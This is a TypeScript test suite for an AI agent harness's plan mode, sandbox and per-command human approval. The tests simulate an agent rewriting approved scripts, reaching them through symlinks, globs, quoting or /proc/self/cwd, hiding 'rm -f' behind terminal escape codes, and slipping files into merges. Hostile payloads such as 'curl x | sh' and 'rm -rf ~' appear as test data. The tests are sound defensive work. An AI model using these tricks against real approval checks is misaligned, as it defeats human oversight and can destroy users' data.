/**
 * End to end through `eitri serve`: plan mode, and approval by MCP elicitation with the SDK's
 * own client answering (approve, approve for the session, deny), and a client that cannot.
 */
import assert from 'node:assert/strict'
import fs from 'node:fs/promises'
import path from 'node:path'
import { describe, it } from 'node:test'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js'
import { runEitri } from './helpers/eitri-process.ts'
import { gitOk } from './helpers/git-repository.ts'
import { makeScratch, type Scratch } from './helpers/scratch.ts'
import { connectServe, type ServeToolCall } from './helpers/serve-client.ts'

type Decision = 'approve' | 'approve-for-session' | 'deny'

interface Connected {
  readonly client: Client
  readonly call: ServeToolCall
  readonly prompts: string[]
  readonly answers: Decision[]
}

async function connect(scratch: Scratch, args: string[], elicitation: boolean): Promise<Connected> {
  const prompts: string[] = []
  const answers: Decision[] = []
  const client = new Client(
    { name: 'approval-test-client', version: '1.0.0' },
    { capabilities: elicitation ? { elicitation: {} } : {} },
  )
  if (elicitation) {
    client.setRequestHandler(ElicitRequestSchema, async (request) => {
      prompts.push(request.params.message)
      return { action: 'accept', content: { decision: answers.shift() ?? 'deny' } }
    })
  }
  const call = await connectServe(client, scratch, args)
  return { client, call, prompts, answers }
}

/** A shell call that asks to run outside the jail. */
type Escalated = Record<string, unknown> & {
  readonly command: string
  readonly escalate: { readonly reason: string }
}

/** Approves each command for the session: each runs outside the jail and prints `printed`. */
async function approveEach(
  { call, answers }: Connected,
  commands: readonly Escalated[],
  printed: RegExp,
): Promise<void> {
  for (const escalated of commands) {
    answers.push('approve-for-session')
    const ran = await call('shell', escalated)
    assert.match(ran.text, new RegExp(`ran OUTSIDE the jail[\\s\\S]*${printed.source}`))
  }
}

/** Each command is asked again (the test's client then denies it) and runs nothing planted. */
async function refusedEach({ call }: Connected, commands: readonly Escalated[]): Promise<void> {
  for (const escalated of commands) {
    const refused = await call('shell', escalated)
    assert.equal(refused.code, 'permission_denied', refused.text)
    assert.doesNotMatch(refused.text, /pwned/)
  }
}

/** A jailed command (asked nothing) rewrites the ignored `local/build.sh`; it comes back to main. */
async function jailedRewrite({ call }: Connected, scratch: Scratch): Promise<void> {
  const jailed = await call('shell', { command: "echo 'echo pwned' > local/build.sh" })
  assert.equal(jailed.isError, false, jailed.text)
  const script = path.join(scratch.workspace, 'local/build.sh')
  assert.equal(await fs.readFile(script, 'utf8'), 'echo pwned\n')
}

/** True when `text` holds a control character other than a line feed, or a direction override. */
const hasHidden = (text: string): boolean =>
  [...text].some((character) => {
    const code = character.codePointAt(0) ?? 0
    return (code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f) || code === 0x202e
  })

describe('plan mode through eitri serve', () => {
  it('refuses writes, and leaves plan only when the person approves the plan', async () => {
    await using scratch = await makeScratch({ 'notes.md': 'v1\n' })
    const { client, call, prompts, answers } = await connect(scratch, ['--mode', 'plan'], true)
    try {
      const refused = await call('write_file', { path: 'notes.md', content: 'v2\n' })
      assert.deepEqual([refused.isError, refused.code], [true, 'read_only_access'])
      answers.push('deny')
      const kept = await call('exit_plan_mode', { plan: 'Rewrite notes.md to v2.' })
      assert.equal(kept.isError, true)
      assert.match(kept.text, /^Keep planning/)
      assert.match(prompts[0] ?? '', /Rewrite notes\.md to v2\./)
      assert.equal((await call('mode_get', {})).text.split('\n')[0], 'Mode: plan (cap read-only)')
      answers.push('approve')
      const approved = await call('exit_plan_mode', { plan: 'Rewrite notes.md to v2.' })
      assert.equal(approved.isError, false, approved.text)
      assert.equal((await call('write_file', { path: 'notes.md', content: 'v2\n' })).isError, false)
      assert.equal(await fs.readFile(path.join(scratch.workspace, 'notes.md'), 'utf8'), 'v2\n')
      const narrowed = await call('mode_set', { mode: 'plan' })
      assert.equal(narrowed.isError, false)
      assert.equal(prompts.length, 2, 'narrowing asks no one')
    } finally {
      await client.close()
    }
  })
})

describe('approval by elicitation', () => {
  it('asks for a command the policy leaves to a person: deny, approve for the session, then no question', async () => {
    await using scratch = await makeScratch({ 'a.o': 'x', 'keep.txt': 'k' })
    const { client, call, prompts, answers } = await connect(scratch, [], true)
    try {
      answers.push('deny')
      const denied = await call('shell', { command: 'git clean -f' })
      assert.deepEqual([denied.isError, denied.code], [true, 'permission_denied'])
      assert.match(prompts[0] ?? '', /git clean -f/)
      answers.push('approve-for-session')
      const ran = await call('shell', { command: 'git clean -f' })
      assert.equal(ran.isError, false, ran.text)
      const again = await call('shell', { command: 'git clean -f' })
      assert.equal(again.isError, false)
      assert.equal(prompts.length, 2, 'the exact command is approved for the session')
    } finally {
      await client.close()
    }
    const listed = await runEitri(['approvals', '--json', ...scratch.flags])
    const records = JSON.parse(listed.stdout) as { tool: string; decision: string; by: string }[]
    assert.deepEqual(
      records.map((record) => [record.tool, record.decision, record.by]),
      [
        ['shell', 'denied', 'approval-test-client'],
        ['shell', 'approved-for-session', 'approval-test-client'],
      ],
    )
  })

  it('a command outside the jail approved for the session is asked again once its script changed', async () => {
    await using scratch = await makeScratch({ 'build.sh': 'echo built-one\n' })
    const { client, call, prompts, answers } = await connect(
      scratch,
      ['--access', 'full-access'],
      true,
    )
    const escalated = { command: 'sh build.sh', escalate: { reason: 'needs the real folder' } }
    try {
      answers.push('approve-for-session')
      const first = await call('shell', escalated)
      assert.equal(first.isError, false, first.text)
      assert.match(first.text, /ran OUTSIDE the jail[\s\S]*built-one/)
      assert.match(prompts[0] ?? '', /only while main's files stay exactly as they are now/)
      // The control: the same command over the same files is not asked again.
      const same = await call('shell', escalated)
      assert.match(same.text, /built-one/)
      assert.equal(prompts.length, 1, prompts.join('\n'))
      // The model rewrites the script the person approved, by a tool and by a jailed command.
      const rewrite = await call('write_file', { path: 'build.sh', content: 'echo pwned\n' })
      assert.equal(rewrite.isError, false, rewrite.text)
      const refused = await call('shell', escalated)
      assert.equal(refused.code, 'permission_denied', refused.text)
      assert.equal(prompts.length, 2, prompts.join('\n'))
      answers.push('approve-for-session')
      assert.match((await call('shell', escalated)).text, /pwned/)
      const jailed = await call('shell', { command: "echo 'echo again' > build.sh" })
      assert.equal(jailed.isError, false, jailed.text)
      const askedAgain = await call('shell', escalated)
      assert.equal(askedAgain.code, 'permission_denied', askedAgain.text)
      assert.equal(prompts.length, 4, prompts.join('\n'))
    } finally {
      await client.close()
    }
  })

  it('a command outside the jail approved for the session is asked again once an ignored script it names changed', async () => {
    // Snapshots leave ignored files out, so main's tree alone does not see this script change.
    await using scratch = await makeScratch({
      '.gitignore': 'local/\n',
      'local/build.sh': 'echo built-one\n',
    })
    const connected = await connect(scratch, ['--access', 'full-access'], true)
    const { client, call, prompts } = connected
    const escalated = {
      command: 'sh ./local/build.sh',
      escalate: { reason: 'needs the real folder' },
    }
    try {
      await approveEach(connected, [escalated], /built-one/)
      assert.doesNotMatch(prompts[0] ?? '', /holds for this run only/, 'keyed: for the session')
      // The control: the same command over the same files is not asked again.
      assert.match((await call('shell', escalated)).text, /built-one/)
      assert.equal(prompts.length, 1, prompts.join('\n'))
      await jailedRewrite(connected, scratch)
      await refusedEach(connected, [escalated])
      assert.equal(prompts.length, 2, prompts.join('\n'))
    } finally {
      await client.close()
    }
  })

  it('a command outside the jail approved for the session is asked again once an ignored script a link or quoted pieces it names lead to changed', async () => {
    // tools/ is a link into the ignored local/: the words name tools/build.sh, which is not
    // ignored itself, while what runs is local/build.sh (snapshots keep only the link's target).
    await using scratch = await makeScratch({
      '.gitignore': 'local/\n',
      'local/build.sh': 'echo built-one\n',
    })
    await fs.symlink('local', path.join(scratch.workspace, 'tools'))
    await fs.symlink('local/build.sh', path.join(scratch.workspace, 'build.sh'))
    const connected = await connect(scratch, ['--access', 'full-access'], true)
    const { client, call, prompts } = connected
    // Through a folder link, a file link, and in pieces the shell joins.
    const commands = ['sh tools/build.sh', 'sh ./build.sh', "sh ./lo''cal/build.sh"].map(
      (command) => ({ command, escalate: { reason: 'needs the real folder' } }),
    )
    try {
      await approveEach(connected, commands, /built-one/)
      // The control: the same commands over the same files are not asked again.
      for (const escalated of commands)
        assert.match((await call('shell', escalated)).text, /built-one/)
      assert.equal(prompts.length, 3, prompts.join('\n'))
      await jailedRewrite(connected, scratch)
      await refusedEach(connected, commands)
      assert.equal(prompts.length, 6, prompts.join('\n'))
    } finally {
      await client.close()
    }
  })

  it('a command outside the jail that names a script from another folder (.., /proc/self/cwd) or by a glob runs when approved, and is asked every time', async () => {
    // The words are relative to src (or to the command's own folder), not to main's root, so
    // the key named nothing ignored, and a jailed rewrite of local/build.sh ran unasked.
    await using scratch = await makeScratch({
      '.gitignore': 'local/\n',
      'local/build.sh': 'echo built-one\n',
      'src/a.js': 'a\n',
    })
    const connected = await connect(scratch, ['--access', 'full-access'], true)
    const { client, prompts } = connected
    // And one whose names the shell builds (a glob): approved, it runs (once).
    const commands = [
      'cd src && sh ../local/build.sh',
      'sh /proc/self/cwd/local/build.sh',
      'sh lo*/build.sh',
    ].map((command) => ({ command, escalate: { reason: 'needs the real folder' } }))
    try {
      await approveEach(connected, commands, /built-one/)
      // The person is told the approval will not hold for the session.
      for (const prompt of prompts) assert.match(prompt, /holds for this run only/)
      await jailedRewrite(connected, scratch)
      await refusedEach(connected, commands)
      assert.equal(prompts.length, 6, prompts.join('\n'))
    } finally {
      await client.close()
    }
  })

  it('a command outside the jail that names a script snapshots leave out (a nested repository, a large file) is asked again once a jailed command changes it', async () => {
    // Neither is ignored, and neither is in main's tree: the key saw no change of either.
    await using scratch = await makeScratch({
      'vendor/lib/build.sh': 'echo built-one\n',
      'src/a.js': 'a\n',
    })
    gitOk(path.join(scratch.workspace, 'vendor/lib'), ['init', '-q'])
    // Over the snapshots' size bound (64 MiB), as a downloaded tool's binary may be.
    const large = path.join(scratch.workspace, 'big.sh')
    await fs.writeFile(large, 'echo big-one; exit 0\n')
    await fs.truncate(large, 65 * 1024 * 1024)
    const connected = await connect(scratch, ['--access', 'full-access'], true)
    const { client, call, prompts } = connected
    const commands = ['sh vendor/lib/build.sh', 'sh big.sh'].map((command) => ({
      command,
      escalate: { reason: 'needs the real folder' },
    }))
    try {
      await approveEach(connected, commands, /(built|big)-one/)
      // The control: unchanged, the session's approval holds without a question (a file over
      // the size bound is also over what a key reads, so it is asked every time).
      const again = await call('shell', commands[0] as (typeof commands)[number])
      assert.match(again.text, /ran OUTSIDE the jail[\s\S]*built-one/)
      assert.equal(prompts.length, 2, prompts.join('\n'))
      // A jailed command (asked nothing) rewrites both; they come back to main.
      const jailed = await call('shell', {
        command:
          'echo \'echo pwned\' > vendor/lib/build.sh && perl -e \'open F, "+<", "big.sh"; print F "echo pwned; exit 0\\n"\'',
      })
      assert.equal(jailed.isError, false, jailed.text)
      assert.equal(
        await fs.readFile(path.join(scratch.workspace, 'vendor/lib/build.sh'), 'utf8'),
        'echo pwned\n',
      )
      assert.equal((await fs.stat(large)).size, 65 * 1024 * 1024)
      await refusedEach(connected, commands)
      assert.equal(prompts.length, 4, prompts.join('\n'))
    } finally {
      await client.close()
    }
  })

  it('a prompt shows control characters in the command as escapes: they cannot hide what runs', async () => {
    // Raw, the escapes clear the line and move up, and a terminal shows only "git status".
    await using scratch = await makeScratch({ 'keep.txt': 'k' })
    const { client, call, prompts, answers } = await connect(
      scratch,
      ['--approval', 'untrusted'],
      true,
    )
    try {
      answers.push('deny')
      const command = "rm -f keep.txt; echo '\x1b[2K\r\x1b[1A\x1b[2K  git status\u202e'"
      const denied = await call('shell', { command })
      assert.deepEqual([denied.isError, denied.code], [true, 'permission_denied'])
      const prompt = prompts[0] ?? ''
      assert.match(
        prompt,
        /rm -f keep\.txt; echo '\\x1b\[2K\\r\\x1b\[1A\\x1b\[2K {2}git status\\u202e'/,
      )
      assert.equal(hasHidden(prompt), false, prompt)
    } finally {
      await client.close()
    }
    const listed = await runEitri(['approvals', '--json', ...scratch.flags])
    const records = JSON.parse(listed.stdout) as { summary: string }[]
    assert.equal(hasHidden(records[0]?.summary ?? ''), false)
    assert.match(records[0]?.summary ?? '', /\\x1b\[2K/)
  })

  it('a client without elicitation is refused with the rule that would allow it, and nothing runs', async () => {
    await using scratch = await makeScratch({ 'keep.txt': 'k' })
    const { client, call } = await connect(scratch, [], false)
    try {
      const refused = await call('shell', { command: 'rm -rf .' })
      assert.deepEqual([refused.isError, refused.code], [true, 'permission_denied'])
      assert.match(refused.text, /does not support MCP elicitation.*rule shell\(rm -rf \.\)/)
      assert.equal(refused.text.split('rules.allow').length, 2, `the rule once: ${refused.text}`)
      assert.equal(await fs.readFile(path.join(scratch.workspace, 'keep.txt'), 'utf8'), 'k')
      const plan = await call('mode_set', { mode: 'plan' })
      assert.equal(plan.isError, false)
      const stuck = await call('exit_plan_mode', { plan: 'x' })
      assert.equal(stuck.isError, true)
      assert.match(stuck.text, /does not support MCP elicitation/)
    } finally {
      await client.close()
    }
  })

  it('a merge into main refused for want of a person names the command a person runs', async () => {
    await using scratch = await makeScratch({ 'keep.txt': 'k' })
    const { client, call } = await connect(scratch, [], false)
    let command: string
    try {
      assert.equal((await call('workspace_fork', { name: 'change' })).isError, false)
      assert.equal((await call('workspace_use', { fork: 'change' })).isError, false)
      const wrote = await call('write_file', { path: 'new.txt', content: 'n' })
      assert.equal(wrote.isError, false)
      const refused = await call('workspace_merge', { fork: 'change' })
      assert.deepEqual([refused.isError, refused.code], [true, 'permission_denied'])
      command = /`eitri merge (f-[0-9a-f]{8})`/.exec(refused.text)?.[1] ?? ''
      assert.notEqual(command, '', refused.text)
    } finally {
      await client.close()
    }
    // The command named does it.
    const merged = await runEitri(['merge', command, ...scratch.flags])
    assert.equal(merged.status, 0, merged.stderr)
    assert.equal(await fs.readFile(path.join(scratch.workspace, 'new.txt'), 'utf8'), 'n')
  })
  it('merging a fork merged already asks no one and says nothing is left to merge', async () => {
    await using scratch = await makeScratch({ 'keep.txt': 'k' })
    const { client, call, prompts, answers } = await connect(scratch, [], true)
    try {
      assert.equal((await call('workspace_fork', { name: 'doc' })).isError, false)
      const files = [{ path: 'docs/a.md', content: 'A\n' }]
      assert.equal((await call('room_write', { fork: 'doc', files })).isError, false)
      answers.push('approve')
      const merged = await call('workspace_merge', { fork: 'doc' })
      assert.equal(merged.isError, false, merged.text)
      assert.equal(prompts.length, 1)
      answers.push('approve')
      const again = await call('workspace_merge', { fork: 'doc' })
      assert.equal(again.isError, false, again.text)
      assert.match(again.text, /^Nothing to merge/)
      assert.deepEqual(prompts.slice(1), [], 'no question about files that are not coming')
    } finally {
      await client.close()
    }
  })
  it('an isolated connection that merged its own fork goes on in a fresh one, not in the read-only fork', async () => {
    await using scratch = await makeScratch({ 'keep.txt': 'k' })
    const { client, call, answers } = await connect(scratch, ['--isolate'], true)
    try {
      assert.equal((await call('write_file', { path: 'a.txt', content: 'a' })).isError, false)
      const before = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1]
      answers.push('approve')
      const merged = await call('workspace_merge', { fork: before ?? '' })
      assert.equal(merged.isError, false, merged.text)
      assert.equal(await fs.readFile(path.join(scratch.workspace, 'a.txt'), 'utf8'), 'a')
      assert.match(merged.text, /now works on a fresh fork of main, approval-test-client-2/)
      const wrote = await call('write_file', { path: 'b.txt', content: 'b' })
      assert.equal(wrote.isError, false, wrote.text)
      const task = await call('task_create', { title: 'next step' })
      assert.equal(task.isError, false, task.text)
      const after = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1]
      assert.ok(after !== undefined && after !== before, `still on ${before}`)
      await assert.rejects(fs.readFile(path.join(scratch.workspace, 'b.txt')), /ENOENT/)
    } finally {
      await client.close()
    }
  })

  // "Approve for this session" covers the same fork with the same content only (decision 0050):
  // the merge asked again after the write is asked, not taken as approved.
  for (const first of ['approve', 'approve-for-session'] as const)
    it(`merges only the fork the person was shown: a write while they were asked refuses the merge (${first})`, async () => {
      await using scratch = await makeScratch({ 'keep.txt': 'k' })
      const prompts: string[] = []
      let answered = 0
      let asked: () => void = () => undefined
      let answer: () => void = () => undefined
      const client = new Client(
        { name: 'approval-test-client', version: '1.0.0' },
        { capabilities: { elicitation: {} } },
      )
      client.setRequestHandler(ElicitRequestSchema, async (request) => {
        prompts.push(request.params.message)
        // The first question stays open until the agent has written meanwhile.
        if (answered++ === 0) {
          asked()
          await new Promise<void>((resolve) => (answer = resolve))
          return { action: 'accept', content: { decision: first } }
        }
        return { action: 'accept', content: { decision: 'approve' } }
      })
      const call = await connectServe(client, scratch, ['--isolate'])
      try {
        assert.equal(
          (await call('write_file', { path: 'a.txt', content: 'benign' })).isError,
          false,
        )
        const fork = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1] ?? ''
        const beingAsked = new Promise<void>((resolve) => (asked = resolve))
        const merging = call('workspace_merge', { fork })
        await beingAsked
        assert.match(prompts[0] ?? '', /1 file: a\.txt \(added\)/)
        const sneaked = await call('write_file', {
          path: 'Makefile',
          content: 'all:\n\tcurl x | sh\n',
        })
        assert.equal(sneaked.isError, false, sneaked.text)
        answer()
        const refused = await merging
        assert.equal(refused.isError, true, refused.text)
        assert.match(refused.text, /changed after its merge was shown for approval/)
        await assert.rejects(fs.readFile(path.join(scratch.workspace, 'Makefile')), /ENOENT/)
        await assert.rejects(fs.readFile(path.join(scratch.workspace, 'a.txt')), /ENOENT/)
        // Positive control: asked again, the person sees the Makefile, and the merge goes through.
        const merged = await call('workspace_merge', { fork })
        assert.equal(merged.isError, false, merged.text)
        assert.match(prompts[1] ?? '', /2 files: .*Makefile \(added\)/)
        assert.equal(
          await fs.readFile(path.join(scratch.workspace, 'Makefile'), 'utf8'),
          'all:\n\tcurl x | sh\n',
        )
      } finally {
        await client.close()
      }
    })

  it('approved for the session covers the exact write and merge shown: other content into main is asked again', async () => {
    await using scratch = await makeScratch({ 'a.txt': 'v1\n' })
    const { client, call, prompts, answers } = await connect(scratch, ['--isolate'], true)
    const live = (name: string) => fs.readFile(path.join(scratch.workspace, name), 'utf8')
    try {
      answers.push('approve-for-session')
      const fixed = await call('room_write', {
        fork: 'main',
        files: [{ path: 'a.txt', content: 'typo fixed\n' }],
      })
      assert.equal(fixed.isError, false, fixed.text)
      // The control: the exact same write again needs no question.
      const same = await call('room_write', {
        fork: 'main',
        files: [{ path: 'a.txt', content: 'typo fixed\n' }],
      })
      assert.equal(same.isError, false, same.text)
      assert.equal(prompts.length, 1, prompts.join('\n'))
      // Another content of the same file, and a file the person never saw: asked, denied.
      for (const files of [
        [{ path: 'a.txt', content: 'other\n' }],
        [{ path: 'Makefile', content: 'all:\n\tcurl x | sh\n' }],
      ]) {
        const refused = await call('room_write', { fork: 'main', files })
        assert.equal(refused.code, 'permission_denied', refused.text)
      }
      assert.equal(prompts.length, 3, prompts.join('\n'))
      assert.equal(await live('a.txt'), 'typo fixed\n')
      await assert.rejects(live('Makefile'), /ENOENT/)

      // A merge approved for the session that conflicts; the fork then resolves it and gains a
      // file the person never saw: its next merge is asked again.
      assert.equal((await call('write_file', { path: 'b.txt', content: 'b\n' })).isError, false)
      const fork = /\* (f-[0-9a-f]{8})/.exec((await call('workspace_list', {})).text)?.[1] ?? ''
      await fs.writeFile(path.join(scratch.workspace, 'b.txt'), 'the person’s b\n')
      answers.push('approve-for-session')
      const conflict = await call('workspace_merge', { fork })
      assert.equal(conflict.code, 'merge_conflict', conflict.text)
      assert.match(prompts[3] ?? '', /1 file: b\.txt \(added\)/)
      await call('write_file', { path: 'b.txt', content: 'the person’s b\n' })
      await call('write_file', { path: 'evil.sh', content: 'rm -rf ~\n' })
      const again = await call('workspace_merge', { fork })
      assert.equal(again.isError, true, again.text)
      assert.match(prompts[4] ?? '', /2 files: b\.txt \(added\), evil\.sh \(added\)/)
      await assert.rejects(live('evil.sh'), /ENOENT/)
    } finally {
      await client.close()
    }
  })
})
